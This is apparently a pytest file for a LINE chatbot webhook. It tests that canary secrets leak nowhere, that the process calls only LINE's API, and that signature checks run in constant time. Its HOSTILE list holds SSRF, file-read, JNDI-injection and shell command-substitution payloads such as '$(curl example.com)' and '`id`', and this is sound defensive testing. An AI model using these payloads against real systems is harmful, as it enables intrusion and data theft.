"""Nothing of a person or a secret is anywhere but where it belongs, and nobody else is called."""

from __future__ import annotations

import ast
import base64
import inspect
import socket
import textwrap
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from bot import webhook
from tests.engine import standin
from tests.engine.fake_line import FakeLine
from tests.engine.posting import body, event, post, request, signature, tell, user
from tests.engine.running import Process
from tests.faults import nodes
from tests.faults.looking import DEFERRED, WAITING, change, rows, soon

WORDS = ["c4naryひみつ", standin.POISON, "消して", "c4nary{0.__class__}%s${x}", "c4nary\r\nlevel=x"]


def free_port() -> int:
    """A port nobody uses just now."""
    with socket.create_server(("127.0.0.1", 0)) as probe:
        return int(probe.getsockname()[1])


def everything_goes_wrong(node: Process, line: FakeLine, folder: Path) -> None:
    """Whatever has a line in the log: marked people do all kinds of things, and LINE fails."""
    faults: list[Any] = ["500 before", "bad message", "429", "reset after", "huge", "not json"]
    for number, text in enumerate(WORDS * 3, 1):
        if faults:
            line.faults.append(faults.pop(0))
        assert tell(node.base, event(text, who=number)) == 200
    line.expired |= {f"c4narytoken{number:021}" for number in range(10**4)}
    assert tell(node.base, event("c4nary late", who=50)) == 200
    taken_back = event("c4nary taken back", who=51)
    assert tell(node.base, event({"type": "unsend", "unsend": {
        "messageId": taken_back["message"]["id"]}}, who=51)) == 200  # fmt: skip
    assert tell(node.base, taken_back) == 200
    assert tell(node.base, event({"type": "unfollow"}, who=1)) == 200
    assert tell(node.base, event("c4nary", who=52, mode="standby")) == 200
    assert tell(node.base, event("c4nary", source={"type": "group", "groupId": "Cc4nary"})) == 200
    assert tell(node.base, event({"type": "join"}, source={"type": "room", "roomId": "Rc4nary"}))
    data = body(event("c4nary forged"))
    assert post(node.base, data, {"X-Line-Signature": signature(data, "c4nary other")}) == 401
    assert post(node.base, b"c4nary", {}, "/callback?c4nary=1") == 401
    assert post(node.base, b'{"events":["c4nary",{"type":"c4nary","mode":"c4nary"}]}') == 200
    assert request(node.base, "GET", "/c4nary?c4nary", headers={"User-Agent": "c4nary"})[0] == 404
    # What a damaged database makes the engine say.
    [(who, *_), *_] = rows(folder / "taikai.db", "SELECT user_key FROM person WHERE state NOT NULL")
    change(folder / "taikai.db", "UPDATE person SET state = x'00' WHERE user_key = ?", who)
    for number in range(1, 16):
        assert tell(node.base, event("c4nary again", who=number)) == 200
    assert line.wait_until(lambda: len(line.attempts) > 20)
    assert soon(lambda: not rows(folder / "taikai.db", DEFERRED), 10)


@pytest.mark.parametrize("push", ["off", "fallback"])
def test_canaries_are_found_nowhere(tmp_path: Path, push: str) -> None:
    """Row 44: neither ids, words, tokens, names of places nor secrets: not in standard output, the
    log, the database, its WAL, or the metrics; neither while it runs nor afterwards."""
    port = free_port()
    with (
        FakeLine() as line,
        Process(
            tmp_path,
            LINE_API_BASE=line.base,
            TAIKAI_PUSH=push,
            TAIKAI_PUSH_DAILY="9",
            METRICS_PORT=str(port),
        ) as node,
    ):
        everything_goes_wrong(node, line, tmp_path)
        running = {file.name: file.read_bytes() for file in tmp_path.iterdir()}
        status, _, metrics = request(f"http://127.0.0.1:{port}", "GET", "/metrics", headers={})
        assert status == 200
        assert b"taikai" in metrics
        assert soon(lambda: not rows(tmp_path / "taikai.db", WAITING), 15)
        assert node.terminate() == 0
    afterwards = {file.name: file.read_bytes() for file in tmp_path.iterdir()}

    assert {"taikai.db", "taikai.db-wal", "log.txt"} <= set(running)
    found = [
        (name, secret)
        for files in (running, afterwards, {"metrics": metrics})
        for name, content in files.items()
        for secret in secrets()
        if secret in content
    ]
    assert found == []
    log = afterwards["log.txt"].decode()
    for said in ("event not handled", "conversation lost", "message refused", '"webhook"'):
        assert said in log, "or the lines in question were never written"
    assert bool(line.pushes) is (push == "fallback")


def secrets() -> list[bytes]:
    """Whatever must be found nowhere, as it is and as it might be written down."""
    plain = [
        "c4nary", user(1), user(50), standin.SECRET, standin.TOKEN, standin.KEY,
        "ひみつ", "毒は扱えません",
    ]  # fmt: skip
    found = [text.encode() for text in plain]
    found += [text.encode("unicode_escape") for text in plain if not text.isascii()]
    found += [text.encode("utf-16-le") for text in plain]
    found += [base64.b64encode(text.encode())[:-4] for text in plain if len(text) > 8]
    found += [bytes(range(7, 39)), bytes(range(7, 39)).hex().encode()]
    return found


HOSTILE = [
    "http://169.254.169.254/latest/meta-data", "https://example.com/?u={user}", "file:///etc/passwd",
    "${jndi:ldap://example.com/a}", "$(curl example.com)", "`id`", "javascript:alert(1)",
]  # fmt: skip


def test_nobody_but_line_is_called(tmp_path: Path) -> None:
    """Row 45: whatever addresses people write, the process asks the system for LINE's alone."""
    with (
        FakeLine() as line,
        Process(tmp_path, run=nodes.tells_whom_it_calls, LINE_API_BASE=line.base) as node,
    ):
        for number, text in enumerate(HOSTILE, 1):
            assert tell(node.base, event(text, who=number)) == 200
            data = {"type": "postback", "postback": {"data": text}}
            assert tell(node.base, event(data, who=number)) == 200
        headers = {"Host": "example.com", "X-Forwarded-For": "10.0.0.1", "Referer": HOSTILE[0]}
        assert request(node.base, "GET", "/privacy", headers=headers)[0] == 200
        assert line.wait_until(lambda: len(line.delivered) == 2 * len(HOSTILE))
        assert node.terminate() == 0

    calls = (tmp_path / "calls.txt").read_text("utf-8").splitlines()
    place = urlsplit(line.base)
    ours = (f"'{place.hostname}', {place.port}", f"'{urlsplit(node.base).hostname}'")
    assert any(ours[0] in call for call in calls)
    assert [call for call in calls if not any(mine in call for mine in ours)] == []


def test_signatures_are_compared_in_constant_time() -> None:
    """Row 30: by `hmac.compare_digest`, over bytes, with every secret, whatever came; no branch
    and no other comparison depends on the secret."""
    source = textwrap.dedent(inspect.getsource(webhook.Webhook._is_signed))
    nodes_of = list(ast.walk(ast.parse(source)))

    called = [node.func.attr for node in nodes_of
              if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)]  # fmt: skip
    assert called.count("compare_digest") == called.count("digest") == 1
    forbidden = (ast.Compare, ast.If, ast.IfExp, ast.BoolOp, ast.Break, ast.Continue, ast.Try)
    assert not [node for node in nodes_of if isinstance(node, forbidden)]
    assert len([node for node in nodes_of if isinstance(node, ast.Return)]) == 1
